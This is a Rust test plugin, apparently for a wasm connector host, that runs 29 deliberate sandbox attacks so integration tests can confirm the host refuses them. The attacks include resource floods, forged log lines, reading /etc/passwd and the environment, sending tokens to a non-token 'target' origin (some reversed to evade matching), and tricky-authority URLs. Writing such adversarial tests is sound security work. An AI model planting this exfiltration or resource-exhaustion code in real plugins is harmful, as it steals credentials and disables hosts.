//! A hostile connector for intake's integration tests.
//!
//! One component covers every attack: the data source's `attack` setting
//! chooses what `fetch` does (see [`Attack`]). Each attack tries to hurt the
//! host (hang it, exhaust its memory, flood its output or log, crash it) or to
//! get at a secret it may not have (reveal it, send it elsewhere, trick the
//! origin check, read the host's files or environment). The host must end
//! every one of them with a clear error for that data source alone and audit
//! every secret decision.
//!
//! Attacks that probe the sandbox report what they saw: an attack that finds
//! the host holding fails with a [`ConnectorError::Other`] whose text starts
//! with `refused:` and lists each attempt; one that got through says `LEAK:`
//! (or, for `fs-env`, records a `LEAKED` probe) so the test fails loudly.

mod raw;

use std::hint::black_box;
use std::io::Read as _;
use std::time::Duration;

use intake_plugin_sdk::credentials::{self, describe};
use intake_plugin_sdk::http::{HttpError, Request};
use intake_plugin_sdk::{
    Config, ConfigField, Connector, ConnectorError, CredentialField, FetchRequest, Page, Spec,
    config, log,
};

/// The hostile connector.
#[derive(Debug)]
pub struct Hostile;

intake_plugin_sdk::export!(Hostile);

/// Where `target` points when a data source does not set it: the discard
/// port, which no operator allows.
const DEFAULT_TARGET: &str = "http://127.0.0.1:9";

/// What `fetch` does, by the `attack` setting.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// A well-behaved page of one record (the control).
    Ok,
    /// An endless loop in wasm code.
    Loop,
    /// Sleeps for an hour in a host call.
    Sleep,
    /// Allocates until memory runs out.
    Memory,
    /// Unbounded recursion with tiny frames (the wasm stack).
    Recursion,
    /// Unbounded recursion with big frames (Rust's stack in linear memory).
    RecursionLocals,
    /// A Rust panic.
    Panic,
    /// Pages of records forever, past the output limit.
    OutputFlood,
    /// A cursor of megabytes.
    CursorFlood,
    /// An error text of megabytes, with forged lines and terminal escapes.
    ErrorFlood,
    /// Thousands of long log lines with forged lines in them.
    LogFlood,
    /// More HTTP requests than the limit allows.
    RequestFlood,
    /// Credential calls in a loop (each one audited).
    CredentialFlood,
    /// `credentials::reveal("token")`, which the operator did not grant.
    ExfiltrateReveal,
    /// The `token` placeholder sent to origins not declared for it.
    PlaceholderElsewhere,
    /// Requests to authorities that look like the allowed one but are not.
    TrickyAuthority,
    /// Reads files, the environment, the arguments, stdin, and the network
    /// without `wasi:http`.
    FsEnv,
    /// Placeholders and reveal of a field the spec does not declare.
    UndeclaredField,
    /// Not an attack: one empty page, the cheapest possible fetch (the
    /// benchmarks' trivial plugin).
    Empty,
    /// Not an attack: [`BULK_PAGES`] pages of [`BULK_RECORDS`] records of
    /// exactly 1 KiB each (the benchmarks' record path).
    Bulk,
    /// One header name given several times, with and without placeholders.
    RepeatedHeader,
    /// Host resources (header sets) created and kept until the host refuses.
    ResourceFlood,
    /// Reads what a careless platform echoes back after an injection (the
    /// host redacts it) and tries to pass on anything else it sees.
    ReflectExfiltrate,
    /// Requests sent at once to `target` (16, within the hostile request
    /// budget of 20), none waited for until all
    /// are out.
    ConnectionFlood,
    /// Tries to make the host write far more audit records (and keep far
    /// more memory) than its calls: credential calls naming a field 200,000
    /// times or with a megabyte-long name, writes of undeclared fields with
    /// 16 KiB values, a refused request with hundreds of placeholders, an
    /// authority of 20 KB.
    Amplify,
    /// A `TRACE` with the token's placeholder to the token's origin: a
    /// server echoes the request's headers back; the plugin reverses the
    /// echoed token (beyond matching) and sends it to `target`.
    TraceEcho,
    /// A request with the token to the token's origin that answers with a
    /// redirect to `target`: the host must not follow it.
    Redirect,
    /// For an operator who granted `reveal` of the token: reveals it, shows
    /// it is real (sends it to the token's origin), logs it, sends it raw to
    /// `target` and returns it in its error.
    RevealGranted,
    /// Asks for a reveal it is not granted (a denial to audit), then sleeps
    /// in a host call until the run is cancelled.
    DenyThenSleep,
}

/// Pages a `bulk` fetch returns.
pub const BULK_PAGES: u64 = 64;
/// Records on each `bulk` page.
pub const BULK_RECORDS: usize = 1024;
/// Bytes of each `bulk` record, its newline included.
pub const BULK_RECORD_BYTES: usize = 1024;

impl Attack {
    /// Every attack with its setting value.
    pub const ALL: [(&'static str, Attack); 29] = [
        ("ok", Attack::Ok),
        ("loop", Attack::Loop),
        ("sleep", Attack::Sleep),
        ("memory", Attack::Memory),
        ("recursion", Attack::Recursion),
        ("recursion-locals", Attack::RecursionLocals),
        ("panic", Attack::Panic),
        ("output-flood", Attack::OutputFlood),
        ("cursor-flood", Attack::CursorFlood),
        ("error-flood", Attack::ErrorFlood),
        ("log-flood", Attack::LogFlood),
        ("request-flood", Attack::RequestFlood),
        ("credential-flood", Attack::CredentialFlood),
        ("exfiltrate-reveal", Attack::ExfiltrateReveal),
        ("placeholder-elsewhere", Attack::PlaceholderElsewhere),
        ("tricky-authority", Attack::TrickyAuthority),
        ("fs-env", Attack::FsEnv),
        ("undeclared-field", Attack::UndeclaredField),
        ("empty", Attack::Empty),
        ("bulk", Attack::Bulk),
        ("repeated-header", Attack::RepeatedHeader),
        ("resource-flood", Attack::ResourceFlood),
        ("connection-flood", Attack::ConnectionFlood),
        ("reflect-exfiltrate", Attack::ReflectExfiltrate),
        ("amplify", Attack::Amplify),
        ("trace-echo", Attack::TraceEcho),
        ("redirect", Attack::Redirect),
        ("reveal-granted", Attack::RevealGranted),
        ("deny-then-sleep", Attack::DenyThenSleep),
    ];

    fn parse(name: &str) -> Result<Attack, ConnectorError> {
        Self::ALL
            .iter()
            .find(|(n, _)| *n == name)
            .map(|(_, a)| *a)
            .ok_or_else(|| ConnectorError::InvalidConfig(format!("no attack `{name}`")))
    }
}

impl Connector for Hostile {
    fn spec() -> Spec {
        let config_field =
            |name: &str, label: &str, required: bool, default: Option<&str>| ConfigField {
                name: name.into(),
                label: label.into(),
                required,
                default: default.map(Into::into),
            };
        Spec {
            platform: "hostile".into(),
            display_name: "Hostile test plugin".into(),
            version: "0.1.0".into(),
            credential_fields: vec![CredentialField {
                name: "token".into(),
                label: "Token".into(),
                secret: true,
                required: true,
                hosts: vec!["{base_url}".into()],
            }],
            config_fields: vec![
                config_field("attack", "The attack to run", true, None),
                config_field("base_url", "The origin the token is for", true, None),
                config_field(
                    "target",
                    "Another origin the plugin may reach (not the token)",
                    false,
                    Some(DEFAULT_TARGET),
                ),
                config_field(
                    "outside",
                    "An origin the operator does not allow",
                    false,
                    Some(DEFAULT_TARGET),
                ),
            ],
            hosts: vec!["{base_url}".into(), "{target}".into()],
        }
    }

    fn check(_config: Config) -> Result<(), ConnectorError> {
        Ok(())
    }

    fn fetch(request: FetchRequest) -> Result<Page, ConnectorError> {
        let config = &request.config;
        let attack = Attack::parse(config::require(config, "attack")?)?;
        let base = config::require(config, "base_url")?.trim_end_matches('/');
        match attack {
            Attack::Ok => Ok(one_record(r#"{"attack":"ok"}"#)),
            Attack::Loop => endless_loop(),
            Attack::Sleep => {
                std::thread::sleep(Duration::from_secs(3600));
                Err(ConnectorError::Other("LEAK: slept an hour".into()))
            }
            Attack::Memory => exhaust_memory(),
            Attack::Recursion => {
                let depth = recurse(0);
                Err(ConnectorError::Other(format!(
                    "LEAK: recursion ended at {depth}"
                )))
            }
            Attack::RecursionLocals => {
                let depth = recurse_with_locals(0);
                Err(ConnectorError::Other(format!(
                    "LEAK: recursion ended at {depth}"
                )))
            }
            Attack::Panic => panic!("hostile: a deliberate panic"),
            Attack::OutputFlood => output_flood(request.cursor.as_deref()),
            Attack::CursorFlood => Ok(Page {
                records: b"{\"attack\":\"cursor-flood\"}\n".to_vec(),
                cursor: Some("c".repeat(4 << 20)),
                more: false,
            }),
            Attack::ErrorFlood => Err(ConnectorError::Other(format!(
                "error-flood \x1b[31mred\x1b[0m\r\nforged-source  alice  adsample  999  0s  ok → forged\n{}",
                "e".repeat(4 << 20)
            ))),
            Attack::LogFlood => log_flood(),
            Attack::RequestFlood => request_flood(base),
            Attack::CredentialFlood => credential_flood(),
            Attack::ExfiltrateReveal => exfiltrate_reveal(),
            Attack::PlaceholderElsewhere => placeholder_elsewhere(base, config),
            Attack::TrickyAuthority => tricky_authority(base),
            Attack::FsEnv => fs_env(base),
            Attack::UndeclaredField => undeclared_field(base),
            Attack::Empty => Ok(Page {
                records: Vec::new(),
                cursor: None,
                more: false,
            }),
            Attack::Bulk => Ok(bulk_page(request.cursor.as_deref())),
            Attack::RepeatedHeader => repeated_header(base),
            Attack::ResourceFlood => resource_flood(),
            Attack::ReflectExfiltrate => reflect_exfiltrate(
                base,
                config::get_or(config, "target", DEFAULT_TARGET).trim_end_matches('/'),
            ),
            Attack::ConnectionFlood => connection_flood(
                config::get_or(config, "target", DEFAULT_TARGET).trim_end_matches('/'),
            ),
            Attack::Amplify => {
                amplify(config::get_or(config, "outside", DEFAULT_TARGET).trim_end_matches('/'))
            }
            Attack::TraceEcho => trace_echo(
                base,
                config::get_or(config, "target", DEFAULT_TARGET).trim_end_matches('/'),
            ),
            Attack::Redirect => redirect(
                base,
                config::get_or(config, "target", DEFAULT_TARGET).trim_end_matches('/'),
            ),
            Attack::RevealGranted => reveal_granted(
                base,
                config::get_or(config, "target", DEFAULT_TARGET).trim_end_matches('/'),
            ),
            Attack::DenyThenSleep => {
                let denied = credentials::reveal(&["token"]);
                log::warn(&format!(
                    "deny-then-sleep: reveal answered {}",
                    if denied.is_ok() { "values" } else { "a denial" }
                ));
                std::thread::sleep(Duration::from_secs(3600));
                Err(ConnectorError::Other("LEAK: slept an hour".into()))
            }
        }
    }
}

fn one_record(json: &str) -> Page {
    let mut records = json.as_bytes().to_vec();
    records.push(b'\n');
    Page {
        records,
        cursor: None,
        more: false,
    }
}

/// The verdict of a probing attack: `refused: …` if every attempt was
/// refused, `LEAK: …` otherwise.
fn verdict(attack: &str, attempts: &[(String, Result<String, String>)]) -> ConnectorError {
    let leaks: Vec<String> = attempts
        .iter()
        .filter_map(|(what, r)| r.as_ref().ok().map(|got| format!("{what} → {got}")))
        .collect();
    let refused: Vec<String> = attempts
        .iter()
        .filter_map(|(what, r)| r.as_ref().err().map(|why| format!("{what} → {why}")))
        .collect();
    if leaks.is_empty() {
        ConnectorError::Other(format!(
            "{attack} refused: all {} attempts: {}",
            refused.len(),
            refused.join("; ")
        ))
    } else {
        ConnectorError::Other(format!(
            "{attack} LEAK: {} of {} attempts got through: {}",
            leaks.len(),
            attempts.len(),
            leaks.join("; ")
        ))
    }
}

fn endless_loop() -> Result<Page, ConnectorError> {
    let mut n: u64 = 0;
    loop {
        n = black_box(n.wrapping_add(1));
    }
}

fn exhaust_memory() -> Result<Page, ConnectorError> {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        hoard.push(black_box(vec![1u8; 1 << 20]));
        black_box(&hoard);
    }
}

#[inline(never)]
fn recurse(depth: u64) -> u64 {
    if black_box(depth) == u64::MAX {
        return depth;
    }
    black_box(recurse(depth + 1)) ^ depth
}

#[inline(never)]
fn recurse_with_locals(depth: u64) -> u64 {
    let mut frame = [0u8; 1024];
    frame[(depth % 1024) as usize] = depth as u8;
    black_box(&mut frame);
    if black_box(depth) == u64::MAX {
        return depth;
    }
    black_box(recurse_with_locals(depth + 1)) ^ u64::from(frame[7])
}

fn output_flood(cursor: Option<&str>) -> Result<Page, ConnectorError> {
    let page: u64 = cursor.and_then(|c| c.parse().ok()).unwrap_or(0);
    let line = format!("{{\"pad\":\"{}\"}}\n", "x".repeat(1000));
    Ok(Page {
        records: line.repeat(300).into_bytes(),
        cursor: Some((page + 1).to_string()),
        more: true,
    })
}

/// One page of `bulk`: [`BULK_RECORDS`] JSON lines of [`BULK_RECORD_BYTES`]
/// bytes; the cursor counts pages, and the last one says there is no more.
fn bulk_page(cursor: Option<&str>) -> Page {
    let page: u64 = cursor.and_then(|c| c.parse().ok()).unwrap_or(0) + 1;
    // `{"n":NNNNNN,"pad":"xxx…"}\n`: 22 bytes of frame, the rest padding.
    let pad = BULK_RECORD_BYTES - 22;
    let mut records = Vec::with_capacity(BULK_RECORDS * BULK_RECORD_BYTES);
    for n in 0..BULK_RECORDS {
        records.extend_from_slice(format!("{{\"n\":{n:06},\"pad\":\"").as_bytes());
        records.resize(records.len() + pad, b'x');
        records.extend_from_slice(b"\"}\n");
    }
    Page {
        records,
        cursor: Some(page.to_string()),
        more: page < BULK_PAGES,
    }
}

fn log_flood() -> Result<Page, ConnectorError> {
    let long = "l".repeat(16 * 1024);
    for i in 0..20_000 {
        log::warn(&format!(
            "log-flood line {i}\nforged-log-line \x1b[35mFORGED\x1b[0m intake: everything is fine {long}"
        ));
    }
    Err(ConnectorError::Other(
        "log-flood: wrote 20000 lines of 16 KiB".into(),
    ))
}

fn request_flood(base: &str) -> Result<Page, ConnectorError> {
    let mut sent = 0;
    for i in 0..1000 {
        match Request::get(format!("{base}/hostile/request-flood/{i}")).send() {
            Ok(_) => sent += 1,
            Err(e) => {
                return Err(ConnectorError::Other(format!(
                    "request-flood: stopped after {sent} requests: {e}"
                )));
            }
        }
    }
    Err(ConnectorError::Other(format!(
        "request-flood LEAK: all {sent} requests were sent"
    )))
}

fn credential_flood() -> Result<Page, ConnectorError> {
    for _ in 0..10_000_000 {
        black_box(credentials::reveal(&["token"]).is_ok());
    }
    Err(ConnectorError::Other(
        "credential-flood LEAK: 10 million credential calls were allowed".into(),
    ))
}

fn exfiltrate_reveal() -> Result<Page, ConnectorError> {
    let attempts = vec![(
        "reveal(token)".to_owned(),
        credentials::reveal(&["token"])
            .map(|values| format!("{} values", values.len()))
            .map_err(|e| describe(&e)),
    )];
    Err(verdict("exfiltrate-reveal", &attempts))
}

/// Sends `request` and turns "a response came back" into `Ok` (the request
/// got out) and a refusal or failure into `Err`.
fn attempt(request: Request) -> Result<String, String> {
    match request.send() {
        Ok(response) => Ok(format!("sent, status {}", response.status)),
        Err(HttpError::Denied(_)) => Err("denied by the host".into()),
        Err(e) => Err(e.to_string()),
    }
}

fn placeholder_elsewhere(base: &str, config: &Config) -> Result<Page, ConnectorError> {
    let token = credentials::placeholder("token")?;
    let target = config::get_or(config, "target", DEFAULT_TARGET).trim_end_matches('/');
    let outside = config::get_or(config, "outside", DEFAULT_TARGET).trim_end_matches('/');
    // The control: where the field is declared, the placeholder works.
    let home = Request::get(format!("{base}/hostile/elsewhere/home"))
        .header("authorization", format!("Bearer {token}"))
        .send()
        .map_err(|e| {
            ConnectorError::Other(format!(
                "placeholder-elsewhere: the control request to {base} failed: {e}"
            ))
        })?;
    log::info(&format!(
        "placeholder-elsewhere: control request answered {}",
        home.status
    ));
    let attempts = vec![
        (
            format!("header to {target}"),
            attempt(
                Request::get(format!("{target}/hostile/elsewhere/header"))
                    .header("authorization", format!("Bearer {token}")),
            ),
        ),
        (
            format!("query to {target}"),
            attempt(Request::get(format!("{target}/hostile/elsewhere/query")).query("t", &token)),
        ),
        (
            format!("form body to {target}"),
            attempt(
                Request::post(format!("{target}/hostile/elsewhere/body")).form(&[("t", &token)]),
            ),
        ),
        (
            format!("header to {outside}"),
            attempt(
                Request::get(format!("{outside}/hostile/elsewhere/outside"))
                    .header("x-token", token.as_str()),
            ),
        ),
    ];
    Err(verdict("placeholder-elsewhere", &attempts))
}

fn tricky_authority(base: &str) -> Result<Page, ConnectorError> {
    let token = credentials::placeholder("token")?;
    let authority = base
        .split_once("://")
        .map_or(base, |(_, rest)| rest)
        .to_owned();
    let (host, port) = authority
        .rsplit_once(':')
        .ok_or_else(|| ConnectorError::InvalidConfig("base_url needs a port".into()))?;
    let port: u16 = port
        .parse()
        .map_err(|_| ConnectorError::InvalidConfig("base_url has a bad port".into()))?;
    let other_port = port.wrapping_add(1).max(1);
    use raw::RawScheme::{Http, Https, Other};
    let tricks: Vec<(raw::RawScheme, String)> = vec![
        (Http, format!("user@{host}:{port}")),
        (Http, format!("{host}:{port}@{host}:{port}")),
        (Http, format!("{host}.:{port}")),
        (Http, format!("localhost:{port}")),
        (Http, format!("LOCALHOST:{port}")),
        (Http, format!("[::1]:{port}")),
        (Http, format!("[::ffff:{host}]:{port}")),
        (Http, format!("127.1:{port}")),
        (Http, format!("2130706433:{port}")),
        (Http, format!("0x7f.0.0.1:{port}")),
        (Http, format!("0177.0.0.1:{port}")),
        (Http, format!("{host}:+{port}")),
        (Http, format!("{host}:{port}:{port}")),
        (Http, format!("{host}%2e:{port}")),
        (Http, format!("{host}:{other_port}")),
        (Http, host.to_owned()),
        (Https, format!("{host}:{port}")),
        (Other("ftp"), format!("{host}:{port}")),
    ];
    let mut attempts = Vec::new();
    for (i, (scheme, authority)) in tricks.iter().enumerate() {
        let path = format!("/hostile/tricky/{i}");
        let result = raw::send(*scheme, authority, &path, &format!("Bearer {token}"));
        attempts.push((format!("{}://{authority}", scheme.name()), result));
    }
    Err(verdict("tricky-authority", &attempts))
}

fn fs_env(base: &str) -> Result<Page, ConnectorError> {
    let addr = base.split_once("://").map_or(base, |(_, rest)| rest);
    let found = |what: String| -> Result<String, String> {
        if what.is_empty() {
            Err("nothing".into())
        } else {
            Ok(what)
        }
    };
    let probes: Vec<(&str, Result<String, String>)> = vec![
        (
            "read /etc/passwd",
            std::fs::read_to_string("/etc/passwd")
                .map(|s| format!("{} bytes", s.len()))
                .map_err(|e| e.to_string()),
        ),
        (
            "list /",
            std::fs::read_dir("/")
                .map(|d| format!("{} entries", d.count()))
                .map_err(|e| e.to_string()),
        ),
        (
            "list .",
            std::fs::read_dir(".")
                .map(|d| format!("{} entries", d.count()))
                .map_err(|e| e.to_string()),
        ),
        (
            "write /tmp/intake-hostile",
            std::fs::write("/tmp/intake-hostile", "x")
                .map(|()| "written".to_owned())
                .map_err(|e| e.to_string()),
        ),
        (
            "environment",
            found(
                std::env::vars_os()
                    .map(|(k, _)| k.to_string_lossy().into_owned())
                    .collect::<Vec<_>>()
                    .join(","),
            ),
        ),
        (
            "arguments",
            found(
                std::env::args_os()
                    .map(|a| a.to_string_lossy().into_owned())
                    .collect::<Vec<_>>()
                    .join(" "),
            ),
        ),
        ("stdin", {
            let mut text = String::new();
            match std::io::stdin().read_to_string(&mut text) {
                Ok(_) => found(text),
                Err(e) => Err(e.to_string()),
            }
        }),
        (
            "tcp connect",
            std::net::TcpStream::connect(addr)
                .map(|_| format!("connected to {addr}"))
                .map_err(|e| e.to_string()),
        ),
        (
            "udp bind",
            std::net::UdpSocket::bind("127.0.0.1:0")
                .map(|_| "bound".to_owned())
                .map_err(|e| e.to_string()),
        ),
        ("dns lookup", {
            use std::net::ToSocketAddrs as _;
            match ("localhost", 80).to_socket_addrs() {
                Ok(addrs) => found(addrs.map(|a| a.to_string()).collect::<Vec<_>>().join(",")),
                Err(e) => Err(e.to_string()),
            }
        }),
    ];
    let mut record = serde_json::Map::new();
    let mut leaked = Vec::new();
    for (what, result) in &probes {
        let text = match result {
            Ok(got) => {
                leaked.push(format!("{what}: {got}"));
                format!("LEAKED: {got}")
            }
            Err(why) => format!("blocked: {why}"),
        };
        record.insert((*what).to_owned(), serde_json::Value::String(text));
    }
    if !leaked.is_empty() {
        return Err(ConnectorError::Other(format!(
            "fs-env LEAK: {}",
            leaked.join("; ")
        )));
    }
    let json = serde_json::Value::Object(record).to_string();
    Ok(one_record(&json))
}

fn undeclared_field(base: &str) -> Result<Page, ConnectorError> {
    let attempts = vec![
        (
            "placeholder(password)".to_owned(),
            credentials::placeholder("password").map_err(|e| describe(&e)),
        ),
        (
            "{{intake:password}} in a header".to_owned(),
            attempt(
                Request::get(format!("{base}/hostile/undeclared/header"))
                    .header("authorization", "Bearer {{intake:password}}"),
            ),
        ),
        (
            "{{intake:basic:token:password}} in a header".to_owned(),
            attempt(
                Request::get(format!("{base}/hostile/undeclared/basic"))
                    .header("authorization", "Basic {{intake:basic:token:password}}"),
            ),
        ),
        (
            "reveal(password)".to_owned(),
            credentials::reveal(&["password"])
                .map(|v| format!("{} values", v.len()))
                .map_err(|e| describe(&e)),
        ),
        (
            "update(password)".to_owned(),
            credentials::update(&[("password", "planted")])
                .map(|()| "stored".to_owned())
                .map_err(|e| describe(&e)),
        ),
    ];
    Err(verdict("undeclared-field", &attempts))
}

/// Sends one header name three times, a placeholder in the second and third
/// values only, and one with two placeholders: the host must substitute each
/// value on its own and send them all, in order.
fn repeated_header(base: &str) -> Result<Page, ConnectorError> {
    let token = credentials::placeholder("token")?;
    let response = Request::get(format!("{base}/hostile/repeated-header"))
        .header("x-repeated", "plain")
        .header("x-repeated", format!("Bearer {token}"))
        .header("x-repeated", format!("{token}:{token}"))
        .header("authorization", format!("Bearer {token}"))
        .send()
        .map_err(|e| ConnectorError::Other(format!("repeated-header: {e}")))?;
    Ok(one_record(&format!(
        r#"{{"attack":"repeated-header","status":{}}}"#,
        response.status
    )))
}

/// Creates header sets (each held in host memory) and keeps them all.
fn resource_flood() -> Result<Page, ConnectorError> {
    use intake_plugin_sdk::bindings::wasi::http::types::Fields;
    let mut kept = Vec::new();
    for _ in 0..10_000_000 {
        let fields = Fields::new();
        let _ = fields.append("x-flood", &[b'x'; 1024]);
        kept.push(fields);
    }
    Err(ConnectorError::Other(format!(
        "resource-flood LEAK: {} header sets held",
        kept.len()
    )))
}

/// Sends 16 requests to `target` before waiting for any answer; returns how
/// many were answered.
fn connection_flood(target: &str) -> Result<Page, ConnectorError> {
    use intake_plugin_sdk::bindings::wasi::http::outgoing_handler;
    use intake_plugin_sdk::bindings::wasi::http::types::{
        Fields, OutgoingBody, OutgoingRequest, Scheme,
    };
    let authority = target
        .strip_prefix("http://")
        .ok_or_else(|| ConnectorError::InvalidConfig(format!("target `{target}` is not http")))?;
    let mut pending = Vec::new();
    for i in 0..16 {
        let request = OutgoingRequest::new(Fields::new());
        let _ = request.set_scheme(Some(&Scheme::Http));
        let _ = request.set_authority(Some(authority));
        let _ = request.set_path_with_query(Some(&format!("/hostile/connection-flood/{i}")));
        let body = request
            .body()
            .map_err(|()| ConnectorError::Other("no body".into()))?;
        let future = outgoing_handler::handle(request, None)
            .map_err(|e| ConnectorError::Other(format!("connection-flood: {e:?}")))?;
        OutgoingBody::finish(body, None)
            .map_err(|e| ConnectorError::Other(format!("connection-flood: {e:?}")))?;
        pending.push(future);
    }
    let mut answered = 0;
    for future in &pending {
        loop {
            match future.get() {
                Some(Ok(Ok(_))) => {
                    answered += 1;
                    break;
                }
                Some(_) => break,
                None => future.subscribe().block(),
            }
        }
    }
    Ok(one_record(&format!(
        r#"{{"attack":"connection-flood","answered":{answered}}}"#
    )))
}

/// Gets what a careless platform echoes of the token in a 401 (`received
/// authorization: "Bearer TOKEN"`). The host redacts it from the response:
/// if that is all the plugin sees, it returns it in a record. Anything else
/// it got, it tries to pass on — raw to `target` (allowed for requests, not
/// for the token) in a header and a query, and reversed (beyond matching) —
/// and says `LEAK`.
fn reflect_exfiltrate(base: &str, target: &str) -> Result<Page, ConnectorError> {
    let token = credentials::placeholder("token")?;
    let echoed = Request::get(format!("{base}/v1/me"))
        .header("authorization", format!("Bearer {token}"))
        .send()
        .map_err(|e| ConnectorError::Other(format!("reflect-exfiltrate: {e}")))?;
    let body = String::from_utf8_lossy(&echoed.body).into_owned();
    let stolen = body
        .split("received authorization: \\\"Bearer ")
        .nth(1)
        .and_then(|rest| rest.split('\\').next())
        .ok_or_else(|| {
            ConnectorError::Other(format!("reflect-exfiltrate: nothing echoed in {body}"))
        })?
        .to_owned();
    if stolen == "[redacted]" {
        return Ok(one_record(
            r#"{"attack":"reflect-exfiltrate","saw":"[redacted]"}"#,
        ));
    }
    let reversed: String = stolen.chars().rev().collect();
    let attempts = vec![
        (
            format!("header to {target}"),
            attempt(
                Request::get(format!("{target}/hostile/reflect/header"))
                    .header("authorization", format!("Bearer {stolen}")),
            ),
        ),
        (
            format!("query to {target}"),
            attempt(Request::get(format!("{target}/hostile/reflect/query")).query("t", &stolen)),
        ),
        (
            format!("reversed to {target}"),
            attempt(
                Request::get(format!("{target}/hostile/reflect/reversed")).query("t", &reversed),
            ),
        ),
    ];
    let ConnectorError::Other(tried) = verdict("reflect-exfiltrate", &attempts) else {
        unreachable!("a verdict is `Other`");
    };
    Err(ConnectorError::Other(format!(
        "reflect-exfiltrate LEAK: the plugin saw an echoed value of {} bytes; {tried}",
        stolen.len()
    )))
}

/// Each probe of `amplify`, repeated: what the host answered.
fn amplify(outside: &str) -> Result<Page, ConnectorError> {
    let huge_name = "n".repeat(1 << 20);
    let mut attempts = Vec::new();
    for round in 0..3 {
        let many = vec!["token"; 200_000];
        attempts.push((
            format!("{round}: reveal of `token` 200000 times"),
            credentials::reveal(&many)
                .map(|v| format!("{} values", v.len()))
                .map_err(|e| describe(&e)),
        ));
        let mut names = vec![huge_name.as_str()];
        names.extend(std::iter::repeat_n("a", 1000));
        attempts.push((
            format!("{round}: reveal of a 1 MiB name and 1000 more"),
            credentials::reveal(&names)
                .map(|v| format!("{} values", v.len()))
                .map_err(|e| describe(&e)),
        ));
        attempts.push((
            format!("{round}: update of a 1 MiB name"),
            credentials::update(&[(huge_name.as_str(), "x")])
                .map(|()| "stored".to_owned())
                .map_err(|e| describe(&e)),
        ));
        // A request refused for its destination, with 500 placeholders of
        // undeclared fields next to the token's.
        let mut header = String::from("{{intake:token}}");
        for i in 0..500 {
            header.push_str(&format!(" {{{{intake:f{i}}}}}"));
        }
        attempts.push((
            format!("{round}: 501 placeholders to {outside}"),
            attempt(Request::get(format!("{outside}/hostile/amplify")).header("x-many", header)),
        ));
        let long_host = format!("{}.test:80", "h".repeat(20_000));
        attempts.push((
            format!("{round}: a 20 KB authority"),
            raw::send(
                raw::RawScheme::Http,
                &long_host,
                "/x",
                "Bearer {{intake:token}}",
            ),
        ));
    }
    // Distinct 16 KiB values for an undeclared field: the host must not
    // remember them (it keeps at most 8 values of a field; past them it
    // would end the run with a limit error, not a refusal).
    for i in 0..12 {
        let value = format!("{i:02}{}", "v".repeat(16 * 1024 - 2));
        attempts.push((
            format!("update {i} of an undeclared field"),
            credentials::update(&[("undeclared", value.as_str())])
                .map(|()| "stored".to_owned())
                .map_err(|e| describe(&e)),
        ));
    }
    Err(verdict("amplify", &attempts))
}

/// `TRACE` to the token's origin with the token's placeholder: if an echo
/// comes back, the token in it is reversed and sent to `target`.
fn trace_echo(base: &str, target: &str) -> Result<Page, ConnectorError> {
    use intake_plugin_sdk::http::Method;
    let token = credentials::placeholder("token")?;
    let echoed = Request::new(Method::Trace, format!("{base}/hostile/trace"))
        .header("authorization", format!("Bearer {token}"))
        .send();
    let response = match echoed {
        Ok(response) => response,
        Err(e) => {
            let attempts = vec![("TRACE to the token's origin".to_owned(), Err(e.to_string()))];
            return Err(verdict("trace-echo", &attempts));
        }
    };
    let text = response.text();
    let stolen = text
        .split("authorization: Bearer ")
        .nth(1)
        .and_then(|rest| rest.split(['\r', '\n']).next())
        .unwrap_or_default()
        .to_owned();
    let reversed: String = stolen.chars().rev().collect();
    let attempts = vec![
        (
            "TRACE to the token's origin".to_owned(),
            Ok(format!("status {}", response.status)),
        ),
        (
            format!("reversed echo to {target}"),
            attempt(Request::get(format!("{target}/hostile/trace/reversed")).query("t", &reversed)),
        ),
    ];
    Err(verdict("trace-echo", &attempts))
}

/// A request with the token that the platform redirects to `target`:
/// returns the status the plugin saw.
fn redirect(base: &str, target: &str) -> Result<Page, ConnectorError> {
    let token = credentials::placeholder("token")?;
    let response = Request::get(format!("{base}/redirect"))
        .query("to", &format!("{target}/hostile/redirected"))
        .header("authorization", format!("Bearer {token}"))
        .send()
        .map_err(|e| ConnectorError::Other(format!("redirect: {e}")))?;
    let location = response.header("location").unwrap_or_default().to_owned();
    Ok(one_record(&format!(
        r#"{{"attack":"redirect","status":{},"location":{}}}"#,
        response.status,
        serde_json::Value::String(location)
    )))
}

/// With `reveal` of the token granted: reveals it, proves it holds the real
/// value (sends it raw to the token's origin, where it may go), logs it,
/// sends it raw to `target` (where it may not go) and returns it in its
/// error, upper-cased too.
fn reveal_granted(base: &str, target: &str) -> Result<Page, ConnectorError> {
    let token = credentials::reveal(&["token"])?
        .pop()
        .ok_or_else(|| ConnectorError::Other("reveal-granted: no value".into()))?;
    let home = attempt(
        Request::get(format!("{base}/hostile/revealed"))
            .header("authorization", format!("Bearer {token}")),
    );
    log::warn(&format!(
        "reveal-granted: the token is {token} ({})",
        token.to_uppercase()
    ));
    let elsewhere =
        attempt(Request::get(format!("{target}/hostile/revealed-elsewhere")).query("t", &token));
    Err(ConnectorError::Other(format!(
        "reveal-granted: to the token's origin: {}; to {target}: {}; the token is {token}",
        match &home {
            Ok(got) => format!("sent ({got})"),
            Err(why) => format!("refused ({why})"),
        },
        match &elsewhere {
            Ok(got) => format!("LEAK: sent ({got})"),
            Err(why) => format!("refused ({why})"),
        }
    )))
}
